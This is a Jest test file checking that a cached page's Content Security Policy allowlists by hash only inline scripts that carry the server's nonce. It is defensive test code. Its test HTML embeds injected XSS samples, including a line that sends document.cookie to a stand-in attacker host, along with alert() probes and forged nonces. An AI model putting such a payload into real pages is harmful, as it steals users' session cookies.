import { describe, expect, it } from '@jest/globals';
import { createHash } from 'node:crypto';
import { withScriptHashes } from './page-cache.js';

const sha256 = (text: string) => `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;
const NONCE = 'k3Yf+9/Qm1x2w3e4r5t6yA==';
const POLICY = `default-src 'self'; script-src 'self' 'nonce-${NONCE}'; object-src 'none'`;

describe("a cached page's script policy", () => {
  it('allows by hash only the inline scripts rendered with the response nonce, never one that came with content', () => {
    const html = [
      `<script nonce="${NONCE}">window.__reactRouterContext = {};</script>`,
      `<script type="module" nonce="${NONCE}" async="">import "/assets/entry.js";</script>`,
      '<div class="prose"><p>Hello</p><script>fetch("//ev.il/?c=" + document.cookie)</script></div>',
      `<script nonce="someone-elses-guess">alert(1)</script>`,
      `<script data-nonce="${NONCE}">alert(2)</script>`,
      `<script src="/assets/app.js" nonce="${NONCE}"></script>`,
    ].join('');
    const policy = withScriptHashes(POLICY, NONCE, html);
    expect(policy).toBe(
      `default-src 'self'; script-src 'self' ${sha256('window.__reactRouterContext = {};')} ${sha256('import "/assets/entry.js";')}; object-src 'none'`,
    );
    for (const injected of ['fetch("//ev.il/?c=" + document.cookie)', 'alert(1)', 'alert(2)']) expect(policy).not.toContain(sha256(injected));
  });

  it('drops the nonce and allows no inline script when none was rendered with it', () => {
    expect(withScriptHashes(POLICY, NONCE, '<p>No scripts</p><script>alert(1)</script>')).toBe(`default-src 'self'; script-src 'self'; object-src 'none'`);
    // Without a nonce nothing is marked, and an unmarked script is never allowed.
    expect(withScriptHashes(`script-src 'self' 'nonce-'`, '', '<script>alert(1)</script>')).toBe(`script-src 'self'`);
  });
});
